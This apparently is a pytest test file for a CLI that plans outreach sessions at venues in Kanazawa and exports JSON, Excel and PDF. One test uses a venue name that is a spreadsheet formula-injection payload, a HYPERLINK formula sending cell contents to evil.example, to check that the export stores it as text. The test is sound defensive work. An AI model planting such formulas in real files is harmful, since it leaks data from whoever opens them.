"""`outreach plan` on the real Kanazawa data, as outside checks run it (no database)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

from openpyxl import load_workbook

from cli.plan import plan as plan_command
from core.i18n import using_locale
from planner.model import PARAMETER_DEFAULTS
from tests.conftest import DATA

OUTREACH = str(Path(sys.executable).parent / "outreach")


def test_plan_command_on_kanazawa_writes_plan_json_excel_and_pdf(tmp_path):
    out, xlsx, pdf = tmp_path / "plan.json", tmp_path / "plan.xlsx", tmp_path / "plan.pdf"
    env = {k: v for k, v in os.environ.items() if k != "DATABASE_URL"}
    env["DATABASE_URL"] = "postgresql://nobody@127.0.0.1:1/none"  # proves no database is touched
    result = subprocess.run(
        [
            OUTREACH,
            "plan",
            "--facilities",
            str(DATA / "public_facilities.csv"),
            "--facilities",
            str(DATA / "commercial_venues.csv"),
            "--demand",
            str(DATA / "town_points.csv"),
            "--start",
            "2027-04-01",
            "--end",
            "2027-09-30",
            "--time-limit",
            "120",
            "--seasonality",
            str(DATA / "window_stats_2024.csv"),
            "--out",
            str(out),
            "--xlsx",
            str(xlsx),
            "--pdf",
            str(pdf),
        ],
        capture_output=True,
        text=True,
        timeout=300,
        env=env,
    )
    assert result.returncode == 0, result.stderr
    plan = json.loads(out.read_text(encoding="utf-8"))
    assert set(plan) >= {"period", "status", "objective", "solve_seconds", "parameters", "sessions"}
    assert plan["period"] == {"start": "2027-04-01", "end": "2027-09-30"}
    assert plan["status"] == "optimal" and plan["objective"]["name"] == "reach"
    assert plan["objective"]["bound"] >= plan["objective"]["value"] > 0 and plan["objective"]["gap"] <= 1e-6
    assert len(plan["sessions"]) == 72  # 6 weekday + 6 holiday sessions in each of six months
    for session in plan["sessions"]:
        assert set(session) >= {
            "date",
            "day_type",
            "venue_id",
            "venue_name",
            "lat",
            "lon",
            "start",
            "end",
            "expected_applicants",
            "reason",
        }
        assert session["start"] >= "10:00" and session["end"] <= "17:00" and session["reason"]
    assert not any(s["venue_id"] == "AA0000001051" for s in plan["sessions"])  # City Hall is not a booth venue
    assert load_workbook(xlsx).sheetnames[:2] == ["表紙", "実施計画"]
    assert pdf.read_bytes().startswith(b"%PDF")


def test_plan_command_explains_an_impossible_request(tmp_path):
    facilities = tmp_path / "one.csv"
    facilities.write_text(
        "ID,名称,緯度,経度,利用可能曜日,開始時間,終了時間\nS1,日曜公民館,36.56,136.65,日,09:00,17:00\n",
        encoding="utf-8",
    )
    demand = tmp_path / "demand.csv"
    demand.write_text("lat,lon\n36.561,136.651\n", encoding="utf-8")
    out = tmp_path / "plan.json"
    result = subprocess.run(
        [
            OUTREACH,
            "plan",
            "--facilities",
            str(facilities),
            "--demand",
            str(demand),
            "--start",
            "2027-08-01",
            "--end",
            "2027-08-31",
            "--weekday-per-month",
            "0",
            "--holiday-per-month",
            "6",
            "--min-gap-days",
            "1",
            "--out",
            str(out),
        ],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "OUTREACH_LANG": "en"},
    )
    assert result.returncode == 0, result.stderr
    assert "2027-08: 6 holiday sessions asked, only 5 holiday dates" in result.stderr
    plan = json.loads(out.read_text(encoding="utf-8"))
    assert len(plan["sessions"]) == 5 and plan["shortages"][0]["possible"] == 5


def test_plan_command_defaults_are_the_models():
    defaults = {option.name: option.default for option in plan_command.params}
    for option, parameter in (
        ("weekday_per_month", "weekday_per_month"),
        ("holiday_per_month", "holiday_per_month"),
        ("teams", "teams"),
        ("min_gap_days", "min_gap_days"),
        ("time_limit", "time_limit_seconds"),
        ("base_rate", "base_rate_per_hour"),
    ):
        assert defaults[option] == PARAMETER_DEFAULTS[parameter]


def test_plan_command_refuses_a_month_override_it_cannot_read(tmp_path):
    from click.testing import CliRunner

    arguments = ["--facilities", str(DATA / "public_facilities.csv"), "--demand", str(DATA / "town_points.csv")]
    arguments += ["--start", "2027-04-01", "--end", "2027-09-30", "--out", str(tmp_path / "plan.json")]
    result = CliRunner().invoke(plan_command, [*arguments, "--month", "2027-08;weekday=4"])
    assert result.exit_code == 2 and "--month" in result.output and "YYYY-MM:weekday=N,holiday=N" in result.output
    assert not (tmp_path / "plan.json").exists()


def test_a_venue_named_like_a_formula_is_text_in_plan_xlsx(tmp_path):
    """The facility list as our export writes it (a ' before the =, which the importer takes off again): the name
    must reach plan.xlsx as text, never as a formula that runs when the city opens the file."""
    from tests.core.test_spreadsheet import formulas_in

    name = '=HYPERLINK("http://evil.example/?leak="&B2,"会館")'
    facilities = tmp_path / "one.csv"
    facilities.write_text(
        "ID,名称,緯度,経度,利用可能曜日,開始時間,終了時間,会場種別\n"
        f'S1,"\'{name.replace(chr(34), chr(34) * 2)}",36.56,136.65,土日,09:00,17:00,community_hall\n',
        encoding="utf-8",
    )
    demand = tmp_path / "demand.csv"
    demand.write_text("lat,lon\n36.561,136.651\n", encoding="utf-8")
    out, xlsx = tmp_path / "plan.json", tmp_path / "plan.xlsx"
    arguments = ["--facilities", str(facilities), "--demand", str(demand), "--start", "2027-08-01"]
    arguments += ["--end", "2027-08-31", "--weekday-per-month", "0", "--holiday-per-month", "1"]
    result = subprocess.run(
        [OUTREACH, "plan", *arguments, "--out", str(out), "--xlsx", str(xlsx)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr
    assert json.loads(out.read_text(encoding="utf-8"))["sessions"][0]["venue_name"] == name
    assert formulas_in(xlsx.read_bytes()) == []
    sheet = load_workbook(xlsx)["実施計画"]
    names = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value == name]
    assert names and all(cell.data_type == "s" for cell in names)


def _venues_csv(path: Path, rows: list[tuple[str, str, float, float]]) -> Path:
    lines = ["ID,名称,緯度,経度,利用可能曜日,開始時間,終了時間,会場種別"]
    lines += [f"{vid},{name},{lat},{lon},月火水木金土日祝,09:00,17:00,community_hall" for vid, name, lat, lon in rows]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_a_replan_with_previous_keeps_every_session_but_the_dropped_venues(tmp_path):
    from click.testing import CliRunner

    venues = [("S1", "東公民館", 36.56, 136.65), ("S2", "西公民館", 36.60, 136.60), ("S3", "南公民館", 36.52, 136.70)]
    demand = tmp_path / "demand.csv"
    demand.write_text(
        "lat,lon,weight\n" + "".join(f"{lat + 0.001},{lon},{w}\n" for (_i, _n, lat, lon), w in zip(venues, (3, 2, 1))),
        encoding="utf-8",
    )
    common = ["--demand", str(demand), "--start", "2027-08-01", "--end", "2027-09-30", "--min-gap-days", "7"]
    common += ["--weekday-per-month", "2", "--holiday-per-month", "2", "--quiet"]
    old, new = tmp_path / "old.json", tmp_path / "new.json"
    result = CliRunner().invoke(
        plan_command, ["--facilities", str(_venues_csv(tmp_path / "all.csv", venues)), *common, "--out", str(old)]
    )
    assert result.exit_code == 0, result.output
    first = json.loads(old.read_text(encoding="utf-8"))
    assert "kept" not in first and "changed" not in first  # a plain plan has no previous version
    dropped = next(s["venue_id"] for s in first["sessions"] if s["venue_id"] != "S1")
    remaining = [v for v in venues if v[0] != dropped]

    with using_locale("en"):
        result = CliRunner().invoke(
            plan_command,
            ["--facilities", str(_venues_csv(tmp_path / "fewer.csv", remaining)), *common, "--out", str(new)]
            + ["--previous", str(old)],
        )
    assert result.exit_code == 0, result.output
    second = json.loads(new.read_text(encoding="utf-8"))
    before = {(s["venue_id"], s["date"]) for s in first["sessions"]}
    after = {(s["venue_id"], s["date"]) for s in second["sessions"]}
    lost = {pair for pair in before if pair[0] == dropped}
    assert second["kept"] == len(before & after) == len(before - lost)  # only the dropped venue's sessions change
    assert second["changed"] == len(lost)
    assert second["reach_loss"] == {
        "allowed_percent": 0.0,
        "taken_percent": 0.0,
        "optimum": second["objective"]["value"],
    }
    assert f"{second['kept']} sessions of the previous plan kept, {second['changed']} changed" in result.output


def test_max_reach_loss_needs_previous_and_previous_must_be_a_plan(tmp_path):
    from click.testing import CliRunner

    arguments = ["--facilities", str(DATA / "public_facilities.csv"), "--demand", str(DATA / "town_points.csv")]
    arguments += ["--start", "2027-04-01", "--end", "2027-04-30", "--out", str(tmp_path / "plan.json")]
    result = CliRunner().invoke(plan_command, [*arguments, "--max-reach-loss", "2"], env={"OUTREACH_LANG": "en"})
    assert result.exit_code == 2 and "--previous" in result.output
    not_a_plan = tmp_path / "old.json"
    not_a_plan.write_text('{"rows": []}', encoding="utf-8")
    result = CliRunner().invoke(plan_command, [*arguments, "--previous", str(not_a_plan)], env={"OUTREACH_LANG": "en"})
    assert result.exit_code == 2 and "plan.json" in result.output
    result = CliRunner().invoke(plan_command, [*arguments, "--max-reach-loss", "150"], env={"OUTREACH_LANG": "en"})
    assert result.exit_code == 2
    assert not (tmp_path / "plan.json").exists()
